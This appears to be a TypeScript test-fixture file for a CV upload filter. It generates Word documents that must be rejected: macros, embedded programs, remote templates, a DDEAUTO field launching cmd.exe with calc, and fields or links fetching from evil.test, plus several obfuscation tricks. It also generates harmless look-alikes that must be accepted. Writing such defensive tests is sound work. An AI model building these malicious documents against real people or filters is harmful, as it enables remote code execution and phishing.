import { randomBytes } from 'node:crypto'
import { compound, docxMembers, WORD } from './documents'
import { bytes, relationship } from './polyglots'
import { type Member, zip } from './zip'

export interface WordFile {
  what: string
  name: string
  content: Buffer
}

const word = (more: readonly Member[], main?: string) => zip(docxMembers(more, main))
const settings = (target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  data: relationship('attachedTemplate', target),
})
const points = (part: string, type: string, target: string) =>
  word([{ name: `word/_rels/${part}.rels`, data: relationship(type, target) }])

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const partOf = (body: string, root = 'w:document') =>
  `<?xml version="1.0" encoding="UTF-8"?><${root} xmlns:w="${W}"><w:body><w:p>${body}</w:p></w:body></${root}>`
const body = (text: string, name = 'word/document.xml') => word([{ name, data: partOf(text) }])
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const instructions = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
/** A field as Word writes it, its instructions in one or more runs. */
const field = (...texts: string[]) =>
  `${mark('begin')}${texts.map(instructions).join('')}${mark('separate')}<w:r><w:t>x</w:t></w:r>${mark('end')}`
const PROGRAM = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
/** An older Word document with a text in it. */
const older = (text: Buffer) => Buffer.concat([compound(['WordDocument', '1Table']), text])

/** Word documents that run something, hold other files, or fetch something when they are opened; none may be kept. */
export function activeWordFiles(): WordFile[] {
  const list: [what: string, name: string, content: Buffer][] = [
    ['an older Word document with macros', 'cv.doc', compound(['WordDocument', '1Table', 'Macros', 'VBA'])],
    [
      'an older Word document with a file in it',
      'cv.doc',
      compound(['WordDocument', 'ObjectPool', '\x01Ole10Native']),
    ],
    ['a Word document with macros', 'cv.docx', word([{ name: 'word/vbaProject.bin', data: 'x' }])],
    [
      'a macro document called a plain one',
      'cv.docx',
      word([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    [
      'macros under another name',
      'cv.docx',
      word([
        {
          name: '[Content_Types].xml',
          data: `<Types><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
        },
      ]),
    ],
    ['a program in a Word document', 'cv.docx', word([{ name: 'word/embeddings/setup.exe', data: 'MZ' }])],
    [
      'an embedded object in a Word document',
      'cv.docx',
      word([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]),
    ],
    ['a control in a Word document', 'cv.docx', word([{ name: 'word/activeX/activeX1.xml', data: '<x/>' }])],
    ['a template from elsewhere', 'cv.docx', word([settings('https://evil.test/t.dotm')])],
    ['a template from a share', 'cv.docx', word([settings('file://evil.test/t.dotm')])],
    ['a template behind references', 'cv.docx', word([settings('&#104;ttp&#58;//evil.test/t.dotm')])],
    [
      'a template that hides that it is elsewhere',
      'cv.docx',
      word([
        {
          name: 'word/_rels/settings.xml.rels',
          data: relationship('attachedTemplate', '&#104;ttp://evil.test/t.dotm').replace('"Ext', '"&#69;xt'),
        },
      ]),
    ],
    [
      'a template behind an entity',
      'cv.docx',
      word([
        {
          name: 'word/_rels/settings.xml.rels',
          data: `<!DOCTYPE r [<!ENTITY t "https://evil.test/t.dotm">]>${relationship('attachedTemplate', '&t;').replace(/^.*?\r\n/, '')}`,
        },
      ]),
    ],
    [
      'a template in UTF-16',
      'cv.docx',
      word([
        {
          name: 'word/_rels/settings.xml.rels',
          data: Buffer.from(
            `\ufeff${relationship('attachedTemplate', 'https://evil.test/t.dotm')}`,
            'utf16le',
          ),
        },
      ]),
    ],
    [
      'an object that is fetched',
      'cv.docx',
      points('document.xml', 'oleObject', 'mhtml:http://evil.test/x.html!x'),
    ],
    [
      'a template of another part',
      'cv.docx',
      points('document.xml', 'attachedTemplate', 'https://evil.test/t.dotm'),
    ],
    ['a picture that is fetched', 'cv.docx', points('footer1.xml', 'image', 'https://evil.test/pixel.png')],
    ['a frame that is fetched', 'cv.docx', points('webSettings.xml', 'frame', '\\\\evil.test\\x')],
    ['a link that is a script', 'cv.docx', points('document.xml', 'hyperlink', 'javascript:alert(1)')],
    [
      'a target elsewhere without saying so',
      'cv.docx',
      word([
        {
          name: 'word/_rels/document.xml.rels',
          data: relationship('oleObject', 'https://evil.test/x').replace(' TargetMode="External"', ''),
        },
      ]),
    ],
    ['a page as a part', 'cv.docx', word([{ name: 'word/afchunk.mht', data: '<!doctype html>' }])],
    [
      'a document that is put into it when it is opened',
      'cv.docx',
      word([
        {
          name: 'word/_rels/document.xml.rels',
          data: relationship('aFChunk', 'other.docx').replace(' TargetMode="External"', ''),
        },
        { name: 'word/other.docx', data: 'x' },
      ]),
    ],
    ['a field that starts a program', 'cv.docx', body(field(` ${PROGRAM} `))],
    ['such a field in small letters', 'cv.docx', body(field(' ddeauto excel x y'))],
    ['such a field in many runs', 'cv.docx', body(field(' D', 'D', 'E', 'AUTO', ' excel x y'))],
    ['such a field in letters as numbers', 'cv.docx', body(field('&#68;&#x44;E excel x y'))],
    ['such a field in quotation marks', 'cv.docx', body(field(' "DDE" excel x y'))],
    ['such a field under another prefix', 'cv.docx', body(field(' DDE x y').replaceAll('w:', 'v:'))],
    ['such a field without a prefix', 'cv.docx', body(field(' DDE x y').replaceAll('w:', ''))],
    ['such a field that never ends', 'cv.docx', body(`${mark('begin')}${instructions('DDE x y')}`)],
    [
      'such a field whose instructions were deleted',
      'cv.docx',
      body(field(' DDE x y').replaceAll('instrText', 'delInstrText')),
    ],
    [
      'such a field within a text of another one',
      'cv.docx',
      body(`${mark('begin')}${instructions(' IF 1=1 ')}${field('DDE x y')}${mark('end')}`),
    ],
    [
      'a field whose kind another one makes',
      'cv.docx',
      body(`${mark('begin')}${instructions(' D')}${field('QUOTE DE')}${mark('end')}`),
    ],
    ['a simple field that starts a program', 'cv.docx', body('<w:fldSimple w:instr=" DDE excel x y"/>')],
    [
      'a simple field with its kind in numbers',
      'cv.docx',
      body("<w:fldSimple w:instr='&#x44;DE excel x y'/>"),
    ],
    [
      'a picture that a field fetches',
      'cv.docx',
      body(field(' INCLUDEPICTURE "https://evil.test/a.png" \\d ')),
    ],
    [
      'a text that a field fetches from a share, in a header',
      'cv.docx',
      body(field(' INCLUDETEXT "\\\\evil.test\\x"'), 'word/header1.xml'),
    ],
    ['a field that is linked', 'cv.docx', body(field(' LINK Excel.Sheet.8 "\\\\evil.test\\x" a'))],
    [
      'a field in UTF-16',
      'cv.docx',
      word([
        { name: 'word/document.xml', data: Buffer.from(`\ufeff${partOf(field(' DDE x y'))}`, 'utf16le') },
      ]),
    ],
    [
      'a field in UTF-16, the other way round',
      'cv.docx',
      word([
        {
          name: 'word/document.xml',
          data: Buffer.from(`\ufeff${partOf(field(' DDE x y'))}`, 'utf16le').swap16(),
        },
      ]),
    ],
    [
      'a field that a document type declares',
      'cv.docx',
      word([
        { name: 'word/document.xml', data: `<!DOCTYPE d [<!ENTITY f "DDE x y">]>${partOf(field('&f;'))}` },
      ]),
    ],
    [
      'a field in an encoding of its own',
      'cv.docx',
      word([{ name: 'word/document.xml', data: '<?xml version="1.0" encoding="UTF-7"?><w:document/>' }]),
    ],
    [
      'a field in one that is far behind',
      'cv.docx',
      body(`${'<w:r><w:t>Experience</w:t></w:r>'.repeat(20_000)}${field(' DDE x y')}`),
    ],
    [
      'an older document with a field that starts a program',
      'cv.doc',
      older(bytes('\x13 DDEAUTO excel x y \x14x\x15')),
    ],
    [
      'an older document with a field that fetches, in wide letters',
      'cv.doc',
      older(Buffer.from('\x13 INCLUDEPICTURE "https://evil.test" \x14x\x15', 'utf16le')),
    ],
  ]
  return list.map(([what, name, content]) => ({ what, name, content }))
}

/** Word documents that people send, with fields and words that look a little like those above; all must be taken. */
export function harmlessWordFiles(): WordFile[] {
  const list: [what: string, name: string, content: Buffer][] = [
    [
      'pages, a list of contents and a link',
      'cv.docx',
      body(`${field(' PAGE ')}${field(' TOC \\o "1-3" ')}${field(' HYPERLINK "https://tavan.test" ')}`),
    ],
    [
      'simple fields',
      'cv.docx',
      body('<w:fldSimple w:instr=" NUMPAGES "/><w:fldSimple w:instr=" DATE \\@ yyyy "><w:r/></w:fldSimple>'),
    ],
    [
      'a formula with a field in it',
      'cv.docx',
      body(`${mark('begin')}${instructions(' = ')}${field(' PAGE ')}${instructions(' - 1')}${mark('end')}`),
    ],
    [
      'a condition with fields in it',
      'cv.docx',
      body(
        `${mark('begin')}${instructions(' IF ')}${field(' PAGE ')}${instructions(' = 1 "DDE" "LINK"')}${mark('end')}`,
      ),
    ],
    ['a call by Skype', 'cv.docx', points('document.xml', 'hyperlink', 'skype:sara.moradi?call')],
    [
      'a chat by WhatsApp',
      'cv.docx',
      points('document.xml', 'hyperlink', 'whatsapp://send?phone=31612345678'),
    ],
    ['an address and a phone', 'cv.docx', points('document.xml', 'hyperlink', 'mailto:sara@tavan.test')],
    ['a phone', 'cv.docx', points('document.xml', 'hyperlink', 'tel:+31612345678')],
    ['the words in a text', 'cv.docx', body('<w:r><w:t>DDEAUTO, INCLUDEPICTURE, LINK</w:t></w:r>')],
    ['fields whose names begin alike', 'cv.docx', body(`${field(' LINKED ')}${field(' DDEX ')}`)],
    ['a field without any instructions', 'cv.docx', body(field(' '))],
    [
      'a chart with its table',
      'cv.docx',
      word([
        { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', data: 'PK' },
        { name: 'word/charts/chart1.xml', data: '<c:chartSpace/>' },
      ]),
    ],
    [
      'an older document with ordinary fields',
      'cv.doc',
      older(bytes('\x13 PAGE \x14x\x15 DDE LINK \x13 HYPERLINK "https://tavan.test" \x14x\x15')),
    ],
  ]
  return list.map(([what, name, content]) => ({ what, name, content }))
}

/** A Word document of 18 MB that repeats a text, with noise between, so that it is no bomb. */
export function longWordFile(text: string): Buffer {
  const noise = Array.from({ length: 1000 }, () => randomBytes(40).toString('hex'))
  let data = '<w:document>'
  for (let i = 0; data.length < 18_000_000; i++)
    data += text.repeat(40) + noise[i % 1000] + noise[(i * 7) % 991]
  return word([{ name: 'word/document.xml', data }])
}
